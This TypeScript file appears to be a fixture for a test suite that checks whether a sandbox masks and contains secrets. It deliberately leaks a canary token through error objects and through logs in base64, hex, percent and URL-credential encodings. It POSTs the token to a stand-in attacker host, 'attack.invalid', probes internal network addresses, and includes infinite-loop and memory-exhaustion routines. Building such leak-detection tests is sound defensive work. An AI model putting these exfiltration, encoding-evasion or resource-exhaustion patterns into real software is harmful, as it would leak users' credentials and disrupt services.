// Protected Code of every family of the attack suite. What it does with its two secrets is what Managers do by mistake, and
// what a task does to it is what Developers try.

/** What an attack on the secret is after. Nobody outside may see more of it than this. */
export const HINT = { known: true, length: 'not told' };

export const guard = {
  /** Whether a text is the secret. */
  matches: (text: unknown) => text === secrets.CANARY,
  /** Answers with what it was given. */
  echo: (value: unknown) => value,
  /** How many arguments came, and of what types they are. */
  describe: (...values: unknown[]) => values.map((value) => Object.prototype.toString.call(value)),
};

/** Uses the secret through built-ins that a task would like to have replaced. Ends with a text that says nothing. */
export function use(): string {
  const parts = [secrets.CANARY ?? '']
    .concat(['x'])
    .map((part) => part.split('').join(''))
    .filter(Boolean);
  const held = Object.assign({}, { token: parts[0] });
  return JSON.stringify(held).replace(/./gu, '').length === 0 && new Map([['a', held]]).size === 1
    ? 'used'
    : 'odd';
}

/** Answers with an instance that holds the secret in a field. */
export function leakyInstance(): unknown {
  class Client {
    readonly _token = secrets.CANARY;
  }
  return { items: [{ client: new Client() }] };
}

/** Fails with the secret in the error, in one of the ways in which that happens. */
export function fail(how: string): never {
  const secret = `${secrets.CANARY}`;
  if (how === 'name') throw Object.assign(new Error('failed'), { name: `Failed ${secret}` });
  if (how === 'cause') throw new Error('failed', { cause: new Error(secret) });
  if (how === 'text') throw secret;
  if (how === 'object') throw { message: secret, token: secret };
  if (how === 'stack') throw Object.assign(new Error('failed'), { stack: `at ${secret}` });
  if (how === 'aggregate') throw new AggregateError([new Error(secret)], `all of ${secret} failed`);
  if (how === 'constructor') throw new (class extends Error {})(`from ${secret}`);
  throw new Error(_written(how));
}

/** Writes the secret to the log in every form that masking knows. */
export function confess(): void {
  for (const form of ['plain', 'base64', 'base64url', 'hex', 'HEX', 'percent', 'json', 'inside']) {
    log(_written(form));
    console.error({ [form]: _written(form) });
  }
}

/** Says where the secret would go. */
export async function declare(form: string): Promise<void> {
  await log_outgoing_data(`printer ${_written(form)}`, { letter: _written(form) });
}

/** Sends the secret to a host that is not allowed, in this part of the request. */
export async function send(part: string): Promise<string> {
  const secret = `${secrets.CANARY}`;
  const url =
    part === 'host'
      ? `https://${secret}.attack.invalid/`
      : `https://attack.invalid/${part === 'url' ? `?q=${secret}` : ''}`;
  const response = await fetch(url, {
    method: 'POST',
    headers: part === 'header' ? { 'x-token': secret } : {},
    body: part === 'body' ? secret : 'nothing',
  });
  return response.text();
}

/** Requests an address in the network of the server. Resolves only if it got there. */
export async function reach(url: string): Promise<string> {
  return (await fetch(url)).text();
}

/** What uses a sealed secret: whoever calls it wants its value, or its placeholder, or to have it sent somewhere else. */
export const sealed = {
  /** Lets the placeholder out in one of the ways in which data leave. */
  async give(way: string): Promise<unknown> {
    const placeholder = _placeholder();
    if (way === 'inside') return { a: [`x${placeholder}`, { [placeholder]: new Map([[placeholder, 1]]) }] };
    if (way === 'bytes') return new TextEncoder().encode(placeholder);
    if (way === 'register') return registers.set('sealed', 'kept', placeholder);
    if (way === 'declaration') return log_outgoing_data(placeholder, placeholder);
    if (way === 'error') throw new Error(placeholder);
    if (way === 'log') log(placeholder);
    return way === 'base64' ? btoa(placeholder) : placeholder;
  },
  /** Sends a text that it was given to a host that is allowed, but not to this secret. */
  async relay(place: string, text: string): Promise<string> {
    const url = `https://${place === 'host' ? `${text}.` : ''}other.invalid/${place === 'url' ? text : ''}`;
    const headers = { [place === 'name' ? text : 'x-token']: place === 'header' ? text : 'x' };
    const sign = place === 'sign' ? { type: 'basic' as const, user: 'x', secret: text } : undefined;
    const body = place === 'body' ? text : 'x';
    return (await fetch(url, { method: 'POST', headers, body, ...(sign && { sign }) })).text();
  },
};

/** An answer with the secret in it. */
export function answer(form: string): string {
  return _written(form);
}

/** Writes many lines. */
export function chatter(lines: number): void {
  for (let line = 0; line < lines; line += 1) log(`line ${line}`);
}

/** Keeps the processor busy, uses memory, or never answers. */
export async function misbehave(how: string): Promise<unknown> {
  if (how === 'loop') for (;;);
  if (how === 'wait') return new Promise(() => {});
  const held = [];
  for (;;) held.push(new Array(1000).fill(held.length));
}

function _written(form: string): string {
  const secret = `${secrets.CANARY}`;
  const hex = [...new TextEncoder().encode(secret)]
    .map((byte) => byte.toString(16).padStart(2, '0'))
    .join('');
  if (form === 'base64') return b64encode(secret);
  if (form === 'base64url') return b64encode(`a${secret}`).replaceAll('+', '-').replaceAll('/', '_');
  if (form === 'hex') return hex;
  if (form === 'HEX') return hex.toUpperCase();
  if (form === 'percent') return encodeURIComponent(`${secrets.CANARY_ODD}`);
  if (form === 'json') return JSON.stringify({ token: secrets.CANARY_ODD });
  if (form === 'inside') return `https://user:${secret}@attack.invalid/${secret}/x`;
  return secret;
}

/** Families that have no sealed secret have no placeholder either. */
function _placeholder(): string {
  return `${(secrets as Record<string, string | undefined>).CANARY_SEALED}`;
}
